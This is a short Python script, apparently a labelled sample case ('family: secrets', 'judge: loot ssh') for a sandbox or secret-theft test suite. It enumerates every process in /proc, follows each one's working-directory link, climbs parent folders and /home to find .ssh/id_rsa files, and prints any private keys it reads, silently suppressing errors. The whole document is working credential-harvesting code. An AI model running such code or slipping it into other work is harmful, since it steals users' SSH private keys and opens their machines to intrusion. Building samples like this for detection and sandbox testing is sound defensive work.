"""Climbs from the working folder of every process it can see to the SSH key.

family: secrets
judge: loot ssh
trace: /cwd, id_rsa
"""

import contextlib
import os

for name in os.listdir("/proc"):
    for climb in ("..", "../..", "../../..", "../../../home"):
        with contextlib.suppress(OSError), open(f"/proc/{name}/cwd/{climb}/.ssh/id_rsa") as file:
            print(file.read())
